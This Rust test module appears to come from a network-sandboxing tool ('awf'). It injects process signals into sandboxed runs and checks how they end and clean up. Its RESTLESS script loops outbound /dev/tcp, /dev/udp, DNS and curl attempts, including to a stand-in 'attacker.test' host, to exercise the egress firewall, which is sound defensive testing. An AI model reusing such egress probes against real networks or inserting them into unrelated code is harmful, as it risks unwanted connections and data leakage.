//! Signals to the processes of a run, and what must become of the run.

use std::fs;
use std::process::Child;
use std::thread;
use std::time::{Duration, Instant};

use awf_tests::docker;
use nix::sys::signal::Signal;

use crate::report;
use crate::world::{
    Ended, PATIENCE, World, children, command_line, finish_in, id_of, members, send,
};

/// Tries everything that is denied, and what is allowed, without pause: TCP, UDP and DNS, IPv4 and IPv6.
pub const RESTLESS: &str = "echo started; exec >/dev/null 2>&1
    ( while :; do
        echo x >/dev/udp/203.0.113.66/9999; echo x >/dev/udp/203.0.113.66/443; echo x >/dev/udp/8.8.4.4/5353
        echo x >/dev/udp/2600:1ab::66/443; echo x >/dev/tcp/203.0.113.66/22; echo x >/dev/tcp/2600:1ab::66/443
        echo x >/dev/tcp/8.8.8.8/53
    done ) &
    ( while :; do
        getent ahosts leak.attacker.test
        echo x >/dev/tcp/attacker.test/443; echo x >/dev/tcp/203.0.113.66/443; echo x >/dev/tcp/93.184.216.34/8080
    done ) &
    ( while :; do
        curl -s -m 2 -o /dev/null https://example.com https://denied.example.net http://93.184.216.38 http://example.com
    done ) &
    wait";

/// Whom a signal is for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Victim {
    /// awf, from its start.
    Awf,
    /// awf, from the command's start.
    BusyAwf,
    Squid,
    /// The first process in the agent's cgroup: with Docker, also the first of its container.
    Outer,
    /// Process 1 of the sandbox.
    One,
    /// What becomes the command.
    Command,
}

/// What is done to it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Blow {
    Kill,
    Term,
    /// SIGSTOP, and SIGCONT a while later.
    Pause(Duration),
    /// SIGSTOP, and SIGKILL a while later.
    KillStopped(Duration),
}

/// A blow at a moment after the victim's birth.
#[derive(Clone, Copy, Debug)]
pub struct Fault {
    pub victim: Victim,
    pub blow: Blow,
    pub moment: Duration,
}

impl Fault {
    fn strike(&self, target: i32) {
        thread::sleep(self.moment);
        let name = match self.blow {
            Blow::Kill => "SIGKILL",
            Blow::Term => "SIGTERM",
            Blow::Pause(_) => "SIGSTOP, SIGCONT",
            Blow::KillStopped(_) => "SIGSTOP, SIGKILL",
        };
        let arrived = match self.blow {
            Blow::Kill => send(target, Signal::SIGKILL),
            Blow::Term => send(target, Signal::SIGTERM),
            Blow::Pause(length) | Blow::KillStopped(length) => {
                let stopped = send(target, Signal::SIGSTOP);
                thread::sleep(length);
                let paused = matches!(self.blow, Blow::Pause(_));
                send(target, if paused { Signal::SIGCONT } else { Signal::SIGKILL }) && stopped
            }
        };
        if arrived {
            report::injected(name, &format!("{:?}", self.victim));
        }
    }

    /// Whether the run is to go on.
    fn is_survived(&self) -> bool {
        match self.blow {
            Blow::Pause(_) => true,
            // Process 1 of a pid namespace hears no signal that it does not handle (pid_namespaces(7)).
            Blow::Term => match self.victim {
                Victim::Squid | Victim::One => true,
                Victim::Outer => docker().is_some(),
                Victim::Awf | Victim::BusyAwf | Victim::Command => false,
            },
            Blow::Kill | Blow::KillStopped(_) => self.victim == Victim::Squid,
        }
    }

    /// The exit code of a run whose command had started.
    fn code(&self) -> i32 {
        match (self.victim, self.blow) {
            (Victim::Awf | Victim::BusyAwf | Victim::Command, Blow::Term) => 143,
            _ => 137,
        }
    }
}

/// Strikes a run of [`RESTLESS`] and asserts that it ends as it must, leaves no process, and leaves nothing else after
/// the next run. Gives what it printed.
#[track_caller]
pub fn inject(world: &World, fault: &Fault, options: &[&str]) -> Ended {
    let context = format!("{fault:?}");
    let began = Instant::now();
    let mut child = world.awf().args(options).args(["--", RESTLESS]).spawn().unwrap();
    let target =
        find(world, &mut child, fault.victim).unwrap_or_else(|| panic!("{context}: no victim"));
    fault.strike(target);
    let run = if fault.is_survived() {
        thread::sleep(Duration::from_millis(100));
        let alive = child.try_wait().unwrap().is_none();
        send(id_of(&child), Signal::SIGTERM);
        let run = finish_in(child, began, &context);
        assert!(alive, "{context}: {run:#?}");
        assert_eq!(run.code, 143, "{context}: {run:#?}");
        run
    } else {
        finish_in(child, began, &context)
    };
    let of_awf = matches!(fault.victim, Victim::Awf | Victim::BusyAwf);
    if !fault.is_survived() && (of_awf || run.stdout == "started\n") {
        assert_eq!(run.code, fault.code(), "{context}: {run:#?}");
    }
    assert_ne!(run.code, 0, "{context}: {run:#?}");
    assert!(run.took < fault.moment + Duration::from_secs(20), "{context}: {run:#?}");
    world.dies_out(&context);
    if of_awf && run.code == 137 {
        let next = world.run(&[], "echo next");
        assert_eq!((next.code, next.stdout.as_str()), (0, "next\n"), "{context}: {next:#?}");
    }
    assert_eq!(world.left(), [""; 0], "{context}");
    run
}

/// Waits until the command runs. Its later output is not read, and there is none.
pub fn wait_for_start(child: &mut Child) {
    let mut stdout = child.stdout.take().unwrap();
    let mut byte = [0; 1];
    assert_eq!(
        std::io::Read::read(&mut stdout, &mut byte).unwrap(),
        1,
        "the command did not start"
    );
    // Closed here: nobody writes to it any more.
}

/// Waits for the birth of a process of the run.
pub fn find(world: &World, child: &mut Child, victim: Victim) -> Option<i32> {
    if victim == Victim::BusyAwf {
        wait_for_start(child);
    }
    let began = Instant::now();
    while began.elapsed() < PATIENCE && child.try_wait().unwrap().is_none() {
        let found = member(world, id_of(child), victim);
        if found.is_some() {
            return found;
        }
        thread::sleep(Duration::from_micros(200));
    }
    None
}

/// A process of a run that goes on: waits for its birth, because Squid is started when it is needed.
pub fn await_member(world: &World, awf: i32, victim: Victim) -> i32 {
    let began = Instant::now();
    while began.elapsed() < PATIENCE {
        if let Some(pid) = member(world, awf, victim) {
            return pid;
        }
        thread::sleep(Duration::from_millis(1));
    }
    panic!("no {victim:?}");
}

/// A process of the run of this awf, the only one in its world, if it has been born.
pub fn member(world: &World, awf: i32, victim: Victim) -> Option<i32> {
    let is_docker = docker().is_some();
    let is_init = |pid: &i32| command_line(*pid).get(1).is_some_and(|word| word == "init");
    let outer = || {
        let of_container = is_docker.then(|| first_in_container(world, "agent"));
        of_container.unwrap_or_else(|| children(awf).into_iter().find(is_init))
    };
    // Beside it a helper lives for a moment.
    let one = || children(outer()?).into_iter().find(|pid| is_process_one(*pid));
    match victim {
        Victim::Awf | Victim::BusyAwf => Some(awf),
        Victim::Squid => {
            let is_squid = |word: &String| word == "awf-proxy" || word.ends_with("/squid");
            let parent = if is_docker { first_in_container(world, "proxy")? } else { awf };
            let mut children = children(parent).into_iter();
            children.find(|pid| command_line(*pid).first().is_some_and(is_squid))
        }
        Victim::Outer => outer(),
        Victim::One => one(),
        Victim::Command => one().and_then(|pid| children(pid).first().copied()),
    }
}

/// The first process of the agent's or the proxy's container, once it is awf: only its parent is outside.
fn first_in_container(world: &World, side: &str) -> Option<i32> {
    let members = members(&world.run_cgroup(side)?);
    let is_awf = |pid: &i32| command_line(*pid).first().is_some_and(|word| word == "/.awf/awf");
    members.iter().copied().filter(is_awf).find(|pid| !members.contains(&parent(*pid)))
}

fn parent(pid: i32) -> i32 {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let parent = status.lines().find_map(|line| line.strip_prefix("PPid:"));
    parent.and_then(|parent| parent.trim().parse().ok()).unwrap_or_default()
}

/// Whether a process is the first of a pid namespace: the last of its ids (proc(5), `NSpid`) is 1.
fn is_process_one(pid: i32) -> bool {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let ids = status.lines().find(|line| line.starts_with("NSpid:"));
    ids.is_some_and(|ids| ids.split_whitespace().next_back() == Some("1"))
}
